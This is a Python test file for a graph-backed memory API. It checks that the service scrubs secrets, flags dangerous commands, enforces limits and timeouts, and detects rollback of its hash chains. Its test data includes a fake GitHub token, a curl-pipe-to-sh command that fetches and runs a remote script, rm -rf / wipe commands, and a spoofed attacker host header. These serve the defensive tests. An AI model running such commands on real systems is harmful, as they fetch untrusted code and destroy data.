"""Trust over HTTP: secrets never stored, dangerous commands flagged, limits, rate limits,
transaction timeouts, checkpoints, and local mode's loopback-only listening."""

from __future__ import annotations

import json
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from graphmem import cli
from graphmem.api.app import create_app
from graphmem.api.auth import Authenticator, hash_key
from graphmem.ingest.hashing import chain_hash
from graphmem.store.driver import QueryTimeout

REPO = Path(__file__).resolve().parent.parent
TOKEN = "ghp_" + "R8x2Lq9ZtW4vN7cK1mP5sD3fG6hJ0bY2uE8a"
OTHER_TOKEN = "ghp_" + "Zt7kQ2mW9xP4vB6nL1cR8sD3fH5jY0gA2uE9"


def _client(app, user: str, **settings) -> TestClient:
    svc = app.state.services
    base = svc.settings.model_copy(update={"api_keys": f"k-{user}:{user}", **settings})
    c = TestClient(create_app(settings=base, services=svc))
    c.headers["Authorization"] = f"Bearer k-{user}"
    return c


# -- secrets -------------------------------------------------------------------------------------
def _stored_strings(cypher, user: str) -> str:
    """Every property of every node and edge of the user, as one text to search."""
    nodes = cypher("MATCH (n {user_id: $u}) RETURN properties(n) AS p", u=user)
    edges = cypher("MATCH (n {user_id: $u})-[r]-() RETURN properties(r) AS p", u=user)
    return json.dumps([row["p"] for row in nodes + edges], default=str)


def test_a_github_token_never_reaches_neo4j(client, cypher, user):
    r = client.post("/records", json={
        "type": "document", "content": f"Deploy notes: the CI token is {TOKEN}, rotate monthly.",
        "source_path": f"https://ci:{TOKEN}@git.example.com/ops/notes.md",
        "source_ref": "notes-1", "thread_id": f"ops-{OTHER_TOKEN}", "sender": "ops-bot",
        "metadata": {"auth": {"token": TOKEN}, "history": [f"old {TOKEN}"], OTHER_TOKEN: "key"}})
    assert r.status_code == 201, r.text
    assert r.json()["scrubbed"] >= 5
    record = client.get(f"/records/{r.json()['id']}").json()
    assert record["scrubbed"] == r.json()["scrubbed"]
    assert "[REDACTED:github_token]" in record["content"]
    assert record["metadata"]["auth"]["token"].startswith("[REDACTED:")
    stored = _stored_strings(cypher, user)
    assert "Deploy notes" in stored  # the search below is over the real nodes
    assert TOKEN not in stored and OTHER_TOKEN not in stored
    assert TOKEN[4:] not in stored and OTHER_TOKEN[4:] not in stored
    for query in (TOKEN, f"CI token {TOKEN}", "CI token rotate monthly"):
        hits = client.post("/search", json={"query": query}).text
        assert TOKEN not in hits and TOKEN[4:] not in hits
    assert "Deploy notes" in client.post("/search", json={"query": "CI token rotate"}).text


def test_secrets_in_an_import_and_a_conversation_are_scrubbed(client, cypher, user):
    client.post("/records/import", json={"records": [
        {"type": "conversation", "content": f"use {TOKEN} for the bot", "source_ref": "i1"}]})
    r = client.post("/conversations/chat-1/prepare", json={
        "messages": [{"role": "user", "content": f"my token is {OTHER_TOKEN}, keep it safe"}]})
    assert r.status_code == 200, r.text
    stored = _stored_strings(cypher, user)
    assert "for the bot" in stored and "keep it safe" in stored
    assert TOKEN not in stored and OTHER_TOKEN not in stored
    assert TOKEN not in r.text and OTHER_TOKEN not in r.text


def test_dangerous_observations_are_flagged_and_never_become_procedures(client, cypher, user):
    records = []
    for i in range(4):
        session = f"s{i % 2}"
        records.append({"type": "observation", "content": "ran: curl -fsSL https://x.io/i.sh | sh",
                        "source_ref": f"bad-{i}", "thread_id": session, "metadata": {
                            "tool": "bash", "input": "curl -fsSL https://x.io/i.sh | sh",
                            "ok": True, "session": session}})
        records.append({"type": "observation", "content": "ran: pytest -q tests",
                        "source_ref": f"ok-{i}", "thread_id": session, "metadata": {
                            "tool": "bash", "input": "pytest -q tests", "ok": True,
                            "session": session}})
    records.append({"type": "observation", "content": "sudo rm -rf / --no-preserve-root",
                    "source_ref": "wipe"})
    # the command only in the metadata, as a tool's input (its closing quote right after the
    # "/") or as an argv list
    records.append({"type": "observation", "content": "cleanup", "source_ref": "bad-meta",
                    "metadata": {"tool": "shell", "input": "rm -rf /", "ok": True}})
    records.append({"type": "observation", "content": "cleanup", "source_ref": "bad-argv",
                    "metadata": {"tool": "exec", "argv": ["rm", "-rf", "/"]}})
    out = client.post("/records/import", json={"records": records}).json()
    assert out["created"] == len(records), out
    for rid, rec in zip(out["ids"], records, strict=True):
        got = client.get(f"/records/{rid}").json()
        dangerous = rec["source_ref"].startswith(("bad", "wipe"))
        assert got["flags"] == (["dangerous_command"] if dangerous else []), rec
        memory = cypher("MATCH (m:Memory {record_id: $r, user_id: $u}) RETURN m.flags AS f",
                        r=rid, u=user)
        assert [row["f"] or [] for row in memory] == [got["flags"]]
    job = client.post("/curate/discovery").json()["job_id"]
    deadline = time.monotonic() + 120
    while client.get(f"/jobs/{job}").json()["status"] == "running":
        assert time.monotonic() < deadline
        time.sleep(0.2)
    assert client.get(f"/jobs/{job}").json()["status"] == "done"
    procedures = [row["t"] for row in cypher(
        "MATCH (m:Memory {user_id: $u, kind: 'procedure'}) RETURN m.text AS t", u=user)]
    assert any("pytest" in t for t in procedures), procedures  # discovery did run
    assert not any("curl" in t or "rm -rf" in t for t in procedures), procedures


# -- limits --------------------------------------------------------------------------------------
def test_a_chunked_body_over_the_limit_is_413_and_writes_nothing(app, user):
    c = _client(app, user, max_body_bytes=4096)
    record = json.dumps({"type": "conversation", "content": "x" * 8000}).encode()

    def chunks(data: bytes):
        for i in range(0, len(data), 1000):
            yield data[i:i + 1000]

    r = c.post("/records", content=chunks(record), headers={"content-type": "application/json"})
    assert "content-length" not in r.request.headers  # really chunked: no length to trust
    assert r.status_code == 413 and r.json()["error"] == "too_large"
    assert "GRAPHMEM_MAX_BODY_BYTES" in r.json()["message"] and r.json()["field"] == "body"
    declared = c.post("/records", content=record, headers={"content-type": "application/json"})
    assert declared.status_code == 413
    small = json.dumps({"type": "conversation", "content": "fits"}).encode()
    ok = c.post("/records", content=chunks(small), headers={"content-type": "application/json"})
    assert ok.status_code == 201, ok.text
    assert c.get("/verify").json()["records_checked"] == 1


def test_top_k_and_query_bounds(client):
    client.post("/records", json={"type": "conversation", "content": "bounds check"})
    for top_k in (0, -1, 101, 10_000):
        r = client.post("/search", json={"query": "bounds", "top_k": top_k})
        assert r.status_code == 422 and r.json()["field"] == "top_k", top_k
    for top_k in (1, 100):
        assert client.post("/search", json={"query": "bounds", "top_k": top_k}).status_code == 200
    for query in ("", "   "):
        r = client.post("/search", json={"query": query})
        assert r.status_code == 422 and r.json()["field"] == "query"
    assert client.post("/search", json={"query": "q" * 10_001}).status_code == 422


def test_rate_limit_is_per_key_with_retry_after(app, user):
    svc = app.state.services
    base = svc.settings.model_copy(update={"api_keys": f"k1:{user},k2:{user}-2",
                                           "rate_limit_per_minute": 3})
    limited = TestClient(create_app(settings=base, services=svc))
    first = {"Authorization": "Bearer k1"}
    assert [limited.get("/verify", headers=first).status_code for _ in range(3)] == [200] * 3
    r = limited.get("/verify", headers=first)
    assert r.status_code == 429 and r.json()["error"] == "rate_limited"
    assert int(r.headers["Retry-After"]) >= 1
    assert limited.get("/verify", headers={"Authorization": "Bearer k2"}).status_code == 200


def test_a_key_from_the_file_and_one_from_the_environment_have_their_own_rate(app, user,
                                                                            tmp_path):
    from graphmem.api.auth import hash_key

    keys = tmp_path / "keys"
    keys.write_text(f"{hash_key('file-key')}:{user}\n")
    svc = app.state.services
    base = svc.settings.model_copy(update={"api_keys": f"env-key:{user}", "api_keys_file": keys,
                                           "rate_limit_per_minute": 2})
    limited = TestClient(create_app(settings=base, services=svc))
    for key in ("env-key", "file-key"):
        codes = [limited.get("/verify", headers={"Authorization": f"Bearer {key}"}).status_code
                 for _ in range(3)]
        assert codes == [200, 200, 429], key
    assert limited.get("/verify", headers={"Authorization": "Bearer file"}).status_code == 401


# -- transaction timeout -------------------------------------------------------------------------
def _sleep(tx, ms: int):
    # A test-only slow query: held open in Neo4j until the transaction timeout ends it.
    tx.run("CALL apoc.util.sleep($ms)", ms=ms).consume()


def test_a_slow_query_is_ended_by_the_transaction_timeout(services):
    started = time.monotonic()
    with pytest.raises(QueryTimeout):
        services.store.read_tx(_sleep, 20_000, timeout=0.5)
    assert time.monotonic() - started < 10


def test_the_default_timeout_applies_to_every_query(services):
    from graphmem.store.driver import Store

    store = Store(services.settings.model_copy(update={"query_timeout_s": 0.5}))
    try:
        started = time.monotonic()
        with pytest.raises(QueryTimeout):
            store.write_tx(_sleep, 20_000)
        assert time.monotonic() - started < 10
    finally:
        store.close()


def test_a_timed_out_query_answers_503_with_retry_after(app, user):
    c = _client(app, user)

    def slow():
        c.app.state.services.store.read_tx(_sleep, 20_000, timeout=0.5)

    c.app.add_api_route("/_test/slow", slow)
    started = time.monotonic()
    r = c.get("/_test/slow")
    assert r.status_code == 503 and r.json()["error"] == "timeout"
    assert int(r.headers["Retry-After"]) >= 1
    assert time.monotonic() - started < 10


# -- checkpoints ---------------------------------------------------------------------------------
def _checkpoint(tmp_path: Path, user: str) -> dict:
    out = tmp_path / "checkpoint.json"
    assert cli.main(["checkpoint", "--out", str(out)]) == 0
    heads = {h["user_id"]: h for h in json.loads(out.read_text())["heads"]}
    return heads[user]


def _verify(client, head: dict) -> dict:
    return client.get("/verify", params={"checkpoint_seq": head["seq"],
                                         "checkpoint_hash": head["hash"]}).json()


def _import(client, refs: range, prefix: str = "cp"):
    records = [{"type": "conversation", "content": f"fact {i}", "source_ref": f"{prefix}{i}"}
               for i in refs]
    assert client.post("/records/import", json={"records": records}).json()["created"] == len(
        records)


def test_a_checkpoint_accepts_later_appends(client, user, tmp_path):
    _import(client, range(1, 6))
    head = _checkpoint(tmp_path, user)
    assert head["seq"] == 5
    _import(client, range(6, 9))
    out = _verify(client, head)
    assert out["ok"] and out["records_checked"] == 8


def test_a_rolled_back_chain_is_detected_against_the_checkpoint(client, cypher, user, tmp_path):
    _import(client, range(1, 6))
    head = _checkpoint(tmp_path, user)
    # Roll back the last two records and the head consistently: the chain alone still verifies.
    cypher("MATCH (r:Record {user_id: $u}) WHERE r.seq > 3 "
           "OPTIONAL MATCH (m:Memory)-[:DERIVED_FROM]->(r) DETACH DELETE r, m", u=user)
    third = cypher("MATCH (r:Record {user_id: $u, seq: 3}) RETURN r.record_hash AS h", u=user)
    cypher("MATCH (h:UserHead {user_id: $u}) SET h.seq = 3, h.hash = $h", u=user,
           h=third[0]["h"])
    assert client.get("/verify").json()["ok"] is True
    out = _verify(client, head)
    assert out["ok"] is False and out["first_bad_seq"] == 4


def test_a_rewritten_chain_is_detected_against_the_checkpoint(client, cypher, user, tmp_path):
    _import(client, range(1, 6))
    head = _checkpoint(tmp_path, user)
    # Rewrite record 2 and re-hash everything after it: only the anchored head can tell.
    rows = cypher("MATCH (r:Record {user_id: $u}) RETURN r {.*} AS r ORDER BY r.seq", u=user)
    prev = ""
    for row in rows:
        record = row["r"]
        if record["seq"] == 2:
            record["content"] = "fact 2, quietly changed"
        record["record_hash"] = chain_hash(record, prev)
        prev = record["record_hash"]
        cypher("MATCH (r:Record {user_id: $u, seq: $s}) SET r.content = $c, r.record_hash = $h",
               u=user, s=record["seq"], c=record["content"], h=record["record_hash"])
    cypher("MATCH (h:UserHead {user_id: $u}) SET h.hash = $h", u=user, h=prev)
    assert client.get("/verify").json()["ok"] is True
    out = _verify(client, head)
    assert out["ok"] is False and out["first_bad_seq"] == 5


def test_cli_verify_checks_a_checkpoint_file(client, cypher, user, tmp_path):
    _import(client, range(1, 4))
    out = tmp_path / "checkpoint.json"
    assert cli.main(["checkpoint", "--out", str(out)]) == 0
    assert cli.main(["verify", "--user", user, "--checkpoint", str(out)]) == 0
    cypher("MATCH (r:Record {user_id: $u, seq: 2}) SET r.content = 'changed'", u=user)
    assert cli.main(["verify", "--user", user, "--checkpoint", str(out)]) == 1


def test_cli_verify_checks_every_user_of_a_checkpoint_file(client, app, cypher, user, tmp_path):
    """Without --user, every user the file names: one rolled back, or deleted outright, fails."""
    _import(client, range(1, 4))
    other = f"{user}-b"
    _import(_client(app, other), range(1, 4))
    taken = tmp_path / "all.json"
    assert cli.main(["checkpoint", "--out", str(taken)]) == 0
    data = json.loads(taken.read_text())
    data["heads"] = [h for h in data["heads"] if h["user_id"] in (user, other)]
    mine = tmp_path / "mine.json"
    mine.write_text(json.dumps(data))
    assert cli.main(["verify", "--checkpoint", str(mine)]) == 0
    cypher("MATCH (r:Record {user_id: $u}) OPTIONAL MATCH (m:Memory)-[:DERIVED_FROM]->(r) "
           "DETACH DELETE r, m", u=other)
    cypher("MATCH (h:UserHead {user_id: $u}) DELETE h", u=other)
    assert cli.main(["verify", "--checkpoint", str(mine)]) == 1


def test_half_a_checkpoint_is_refused(client):
    for params, field in (({"checkpoint_seq": 3}, "checkpoint_hash"),
                          ({"checkpoint_hash": "abc"}, "checkpoint_seq")):
        r = client.get("/verify", params=params)
        assert r.status_code == 422 and r.json()["field"] == field, r.text


def test_verify_names_a_record_rehashed_or_retyped(client, cypher, user):
    _import(client, range(1, 6))
    rows = cypher("MATCH (r:Record {user_id: $u}) RETURN r {.*} AS r ORDER BY r.seq", u=user)

    def rehash(seq: int, content: str) -> None:  # the record's own hash made again
        record = {**rows[seq - 1]["r"], "content": content}
        prev = rows[seq - 2]["r"]["record_hash"] if seq > 1 else ""
        cypher("MATCH (r:Record {user_id: $u, seq: $s}) SET r.content = $c, r.record_hash = $h",
               u=user, s=seq, c=content, h=chain_hash(record, prev))

    rehash(5, "fact 5, quietly changed")
    out = client.get("/verify").json()
    assert out["ok"] is False and out["first_bad_seq"] == 5, out  # not "missing after 5"
    rehash(5, "fact 5")
    assert client.get("/verify").json()["ok"] is True
    rehash(3, "fact 3, quietly changed")
    out = client.get("/verify").json()
    assert out["first_bad_seq"] == 4 and "record 3 was changed" in out["problem"], out
    rehash(3, "fact 3")
    cypher("MATCH (r:Record {user_id: $u, seq: 2}) SET r.occurred_at = datetime(r.recorded_at)",
           u=user)
    r = client.get("/verify")
    assert r.status_code == 200 and r.json()["first_bad_seq"] == 2, r.text


# -- local mode ----------------------------------------------------------------------------------
def test_local_mode_never_listens_beyond_loopback(settings, caplog):
    local = settings.model_copy(update={"api_keys": "", "api_keys_file": None})
    keyed = settings.model_copy(update={"api_keys": "k:u"})
    for argv in (["serve", "--host", "0.0.0.0"], ["serve", "--host", "::"],
                 ["serve", "--host", "192.168.1.10"]):
        args = cli.build_parser().parse_args(argv)
        with caplog.at_level(logging.WARNING, logger="graphmem"):
            assert cli.serve_host(args.host, local) == "127.0.0.1"
        assert "local mode" in caplog.text and "127.0.0.1" in caplog.text
        assert cli.serve_host(args.host, keyed) == args.host
    env_host = local.model_copy(update={"host": "0.0.0.0"})
    assert cli.serve_host(None, env_host) == "127.0.0.1"
    assert cli.serve_host("localhost", local) == "localhost"


def test_keys_that_cannot_be_read_never_fall_back_to_local_mode(settings, tmp_path):
    empty = tmp_path / "keys"
    empty.write_text("# no keys yet\n")
    for update in ({"api_keys": " , "}, {"api_keys_file": empty}):
        with pytest.raises(ValueError, match="none could be read"):
            Authenticator(settings.model_copy(update=update))
    # A key that owns nobody must not quietly act as some default user.
    with pytest.raises(ValueError, match="names no user_id"):
        Authenticator(settings.model_copy(update={"api_keys": "k:+"}))
    # The file holds digests: a plain key there had every request with it answered 401
    plain = tmp_path / "plain"
    plain.write_text("k-plain:gina\n")
    with pytest.raises(ValueError, match="sha256 hex digest"):
        Authenticator(settings.model_copy(update={"api_keys_file": plain}))
    upper = tmp_path / "upper"
    upper.write_text(f"{hash_key('k-gina').upper()}:gina\n")  # sha256sum's case or not
    keyed = Authenticator(settings.model_copy(update={"api_keys_file": upper}))
    assert keyed.for_key("k-gina").users == ("gina",)


def test_the_app_logs_local_mode_at_startup(services, caplog):
    local = services.settings.model_copy(update={"api_keys": "", "api_keys_file": None})
    with caplog.at_level(logging.WARNING, logger="graphmem"), \
            TestClient(create_app(settings=local, services=services)) as c:
        assert c.get("/verify").json()["user_id"] == "local"
    assert "local mode" in caplog.text and "127.0.0.1" in caplog.text


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _serve(settings, keys: str) -> tuple[str, int]:
    """Run `graphmem serve --host 0.0.0.0` until it is up; the log and the port it took."""
    port = _free_port()
    env = {**os.environ, "NEO4J_URI": settings.bolt_uri, "GRAPHMEM_API_KEYS": keys,
           "GRAPHMEM_SCHEDULER": "false"}
    env.pop("GRAPHMEM_API_KEYS_FILE", None)
    proc = subprocess.Popen([sys.executable, "-m", "graphmem.cli", "serve", "--host", "0.0.0.0",
                             "--port", str(port)], env=env, cwd=REPO, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)
    lines = []
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            line = proc.stdout.readline()
            if not line:
                break
            lines.append(line)
            if "Uvicorn running on" in line:
                break
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    return "".join(lines), port


def test_serve_without_keys_binds_loopback_and_says_so(neo4j_server, settings):
    log, port = _serve(settings, "")
    assert f"Uvicorn running on http://127.0.0.1:{port}" in log, log
    assert "local mode" in log


def test_serve_with_keys_may_bind_elsewhere(neo4j_server, settings):
    log, port = _serve(settings, "k:u")
    assert f"Uvicorn running on http://0.0.0.0:{port}" in log, log
    assert "local mode" not in log


def test_local_mode_refuses_a_dns_rebound_host_name(services):
    local = services.settings.model_copy(update={"api_keys": "", "api_keys_file": None})
    c = TestClient(create_app(settings=local, services=services))
    for host in ("localhost:8000", "127.0.0.1:8000", "[::1]:8000", "testserver"):
        assert c.get("/verify", headers={"Host": host}).status_code == 200, host
    for host in ("attacker.example.com", "attacker.example.com:8000", "10.0.0.7:8000"):
        r = c.get("/verify", headers={"Host": host})
        assert r.status_code == 403 and r.json()["error"] == "forbidden_host", host
    keyed = TestClient(create_app(settings=services.settings.model_copy(
        update={"api_keys": "k:someone"}), services=services))
    r = keyed.get("/verify", headers={"Host": "api.example.com", "Authorization": "Bearer k"})
    assert r.status_code == 200  # with keys, the key is the wall, not the host name


def test_a_user_whose_chain_head_was_deleted_cannot_write(client, cypher, user, tmp_path):
    """A head made afresh would start the chain again at seq 1 beside the records there: the
    write is refused with a 409 that says what to do, and writes nothing (no head either)."""
    _import(client, range(1, 4))
    cypher("MATCH (h:UserHead {user_id: $u}) DETACH DELETE h", u=user)
    r = client.post("/records", json={"type": "observation", "content": "fact 4",
                                      "source_ref": "f4"})
    assert r.status_code == 409 and r.json()["error"] == "chain_head_missing"
    assert "export" in r.json()["message"]
    r = client.post("/records/import", json={"records": [
        {"type": "observation", "content": "fact 5", "source_ref": "f5"}]})
    assert r.status_code == 409
    assert cypher("MATCH (r:Record {user_id: $u}) RETURN count(r) AS n", u=user)[0]["n"] == 3
    assert cypher("MATCH (h:UserHead {user_id: $u}) RETURN count(h) AS n", u=user)[0]["n"] == 0
    # what the message offers works: the records go out and into a new user
    assert cli.main(["export", "--user", user, "--out", str(tmp_path / "a.jsonl")]) == 0
    assert cli.main(["import", str(tmp_path / "a.jsonl"), "--user", f"{user}-new"]) == 0


def test_cli_verify_of_a_user_with_no_records_does_not_pass(client, user, capsys):
    """A typo in --user walked an empty chain and passed (rc 0): a scripted check of nothing."""
    _import(client, range(1, 3))
    assert cli.main(["verify", "--user", user]) == 0
    assert cli.main(["verify", "--user", f"{user}-typo"]) == 1
    assert f"{user}-typo' has no records" in capsys.readouterr().err
